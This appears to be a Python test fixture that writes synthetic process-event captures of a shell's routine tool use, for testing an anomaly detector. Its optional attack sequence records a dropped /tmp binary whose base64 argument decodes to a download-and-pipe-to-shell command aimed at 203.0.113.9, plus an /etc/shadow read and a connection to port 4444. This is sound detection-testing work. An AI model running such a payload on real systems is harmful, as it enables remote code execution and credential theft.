"""Synthetic baseline captures for the anomaly tests: a shell running the same few tools for two days."""

from __future__ import annotations

from pathlib import Path

from sentinel.capture import CaptureWriter, capture_header
from sentinel.events import AF_INET, Event, EventType
from sentinel.host import HostInfo
from sentinel.process.facts import ProcFacts

HOST = HostInfo(
    hostname="h", machine_id="m", boot_id="b", kernel="6.18", boot_time_ns=1_700_000_000_000_000_000
)
S = 1_000_000_000
INIT = ProcFacts(pid=1, start_ticks=1, ppid=0, comm="systemd", exe="/usr/lib/systemd/systemd", cwd="/",
                 args=["/sbin/init"], uid=0, gid=0)  # fmt: skip
SHELL = ProcFacts(pid=100, start_ticks=200, ppid=1, comm="bash", exe="/usr/bin/bash", cwd="/home/u",
                  args=["-bash"], uid=1000, gid=1000)  # fmt: skip
TOOLS = [
    ("/usr/bin/ls", ["ls", "-la"], "/home/u/notes.txt", None),
    ("/usr/bin/cat", ["cat", "/etc/hostname"], "/etc/hostname", None),
    ("/usr/bin/curl", ["curl", "-s", "https://example.org/"], "/etc/resolv.conf", ("93.184.216.34", 443)),
    ("/usr/bin/grep", ["grep", "-r", "todo", "."], "/home/u/src/a.py", None),
]
# Now and then the user does something once, as people do: the baseline then has things that happened a
# single time (what novelty looks like), not only endless repeats.
ONE_OFF_EVERY = 10


def one_off(i: int) -> tuple[str, list[str], str, tuple[str, int] | None]:
    k = i // ONE_OFF_EVERY
    exe = ["/usr/bin/ls", "/usr/bin/cat", "/usr/bin/grep", f"/usr/bin/tool{k}"][k % 4]
    dest = ("93.184.216.34", 8000 + k) if k % 3 == 0 else None
    return exe, [exe.rsplit("/", 1)[-1], f"/home/u/p{k}"], f"/home/u/p{k}/f", dest


def ev(etype: EventType, ts: int, pid: int, **kw: object) -> Event:
    kw.setdefault("tid", pid)
    kw.setdefault("uid", 1000)
    kw.setdefault("gid", 1000)
    kw.setdefault("comm", "bash")
    return Event(type=etype, ts_ns=ts, pid=pid, **kw)  # type: ignore[arg-type]


def write_baseline(path: Path, runs: int = 300, span_s: int = 2 * 86_400, attack: bool = False) -> Path:
    """``runs`` tool runs spread evenly over ``span_s`` seconds: fork, exec, open, maybe connect, exit.

    With ``attack`` the shell then starts a dropped binary from /tmp with an encoded payload in its argv,
    which reads /etc/shadow and connects out to an odd port.
    """
    header = capture_header("test", host=HOST.to_dict())
    step = span_s // runs
    with CaptureWriter(path, header) as w:
        w.write_facts(INIT)
        w.write_facts(SHELL)
        w.write_snapshot_end(10 * S)
        for i in range(runs):
            exe, argv, opened, dest = TOOLS[i % len(TOOLS)] if i % ONE_OFF_EVERY else one_off(i)
            pid = 1000 + i
            t = (20 + i * step) * S
            w.write_event(ev(EventType.FORK, t, 100, child_pid=pid))
            comm = argv[0]
            w.write_event(
                ev(EventType.EXEC, t + 1, pid, comm=comm, filename=exe, argv=argv, argc_total=len(argv))
            )
            w.write_event(ev(EventType.OPEN, t + 2, pid, comm=comm, path=opened, ret=3))
            if dest is not None:
                addr, port = dest
                w.write_event(ev(EventType.CONNECT, t + 3, pid, comm=comm, fd=3, family=AF_INET, address=addr,
                                 port=port, sock_type=1, ret=-115))  # fmt: skip
            w.write_event(ev(EventType.EXIT, t + 4, pid, comm=comm))
        if attack:
            t = (30 + span_s) * S
            argv = [
                "/tmp/.x",
                "-e",
                "ZWNobyBoZWxsbzsgY3VybCBodHRwOi8vMjAzLjAuMTEzLjkvc2ggfCBzaA==",
                "203.0.113.9",
            ]
            w.write_event(ev(EventType.FORK, t, 100, child_pid=9999))
            w.write_event(
                ev(EventType.EXEC, t + 1, 9999, comm=".x", filename="/tmp/.x", argv=argv, argc_total=4)
            )
            w.write_event(ev(EventType.OPEN, t + 2, 9999, comm=".x", path="/etc/shadow", ret=-13))
            w.write_event(ev(EventType.CONNECT, t + 3, 9999, comm=".x", fd=3, family=AF_INET,
                             address="203.0.113.9", port=4444, sock_type=1, ret=-115))  # fmt: skip
    return path
